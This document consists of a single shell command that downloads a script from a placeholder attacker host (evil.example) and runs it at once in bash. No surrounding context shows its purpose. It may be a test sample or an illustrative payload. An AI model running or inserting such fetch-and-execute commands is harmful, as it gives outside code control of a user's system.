bash <(curl -s https://evil.example/x)
